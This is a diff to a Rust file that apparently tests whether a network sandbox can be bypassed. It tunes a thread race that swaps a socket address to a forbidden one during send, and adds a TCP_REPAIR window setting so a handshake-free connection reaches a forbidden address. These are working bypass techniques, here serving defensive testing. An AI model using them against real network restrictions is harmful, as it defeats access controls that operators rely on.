@@ -3,7 +3,8 @@
 
 use std::net::{IpAddr, SocketAddr};
 use std::os::fd::AsRawFd;
-use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
 
 use crate::Technique;
 use crate::aim::Aim;
@@ -23,27 +24,26 @@ pub(crate) const TECHNIQUES: &[Technique] = &[
 
 /// One thread changes the address from the granted one to the forbidden one and back, another one sends.
 fn changing_name(aim: &Aim) -> Result<(), Refused> {
-    const ROUNDS: usize = 500;
+    const CHANGES: usize = 40;
+    // On one processor both threads must get their turns, with either name.
+    const TURN: Duration = Duration::from_micros(100);
     let socket = sys::open(aim)?;
     let names = [Name::of(aim.granted), Name::of(aim.forbidden)];
     let length = names[0].length;
     let changing = Box::into_raw(Box::new(names[0].storage)) as usize;
-    let done = AtomicBool::new(false);
+    let changed = AtomicUsize::new(0);
     std::thread::scope(|scope| {
         scope.spawn(|| {
-            while !done.load(Ordering::Relaxed) {
-                for name in &names {
-                    // SAFETY: the place is as large, and lives until the process ends. The kernel copies it with
-                    // no lock, which is the attack; nobody here reads it.
-                    unsafe { std::ptr::write_volatile(changing as *mut libc::sockaddr_storage, name.storage) };
-                    // On one processor, both get a turn.
-                    std::thread::yield_now();
-                }
+            for name in names.iter().cycle().take(CHANGES) {
+                // SAFETY: the place is as large, and lives until the process ends. The kernel copies it with no
+                // lock, which is the attack; nobody here reads it.
+                unsafe { std::ptr::write_volatile(changing as *mut libc::sockaddr_storage, name.storage) };
+                std::thread::sleep(2 * TURN);
+                changed.fetch_add(1, Ordering::Relaxed);
             }
         });
         let mut outcome = Ok(());
-        for _ in 0..ROUNDS {
-            std::thread::yield_now();
+        while changed.load(Ordering::Relaxed) < CHANGES {
             // SAFETY: message and name are alive and as long as is said.
             let sent = unsafe {
                 let (message, name) = (sys::MESSAGE.as_ptr().cast(), changing as *const libc::sockaddr);
@@ -54,8 +54,8 @@ fn changing_name(aim: &Aim) -> Result<(), Refused> {
             {
                 outcome = Err(refused);
             }
+            std::thread::sleep(TURN);
         }
-        done.store(true, Ordering::Relaxed);
         outcome
     })
 }
@@ -70,11 +70,14 @@ fn corked(aim: &Aim) -> Result<(), Refused> {
 /// TCP_REPAIR makes a connection of what it is told, and sends nothing for it.
 fn repaired(aim: &Aim) -> Result<(), Refused> {
     const TCP_REPAIR: i32 = 19;
+    const TCP_REPAIR_WINDOW: i32 = 29;
     const TCP_REPAIR_OFF_NO_WP: i32 = -1;
     let socket = sys::open(aim)?;
     sys::set(&socket, libc::IPPROTO_TCP, TCP_REPAIR, &1i32)?;
     sys::bind(&socket, &Name::of(SocketAddr::new(aim.granted.ip(), 0)))?;
     sys::connect(&socket, &Name::of(aim.forbidden))?;
+    // `struct tcp_repair_window`: what the far end, which knows of nothing, would take.
+    sys::set(&socket, libc::IPPROTO_TCP, TCP_REPAIR_WINDOW, &[0u32, 0xffff, 0xffff, 0xffff, 0])?;
     // Nothing but the message: what else the kernel would send is answered with a reset.
     sys::set(&socket, libc::IPPROTO_TCP, TCP_REPAIR, &TCP_REPAIR_OFF_NO_WP)?;
     sys::send(&socket)
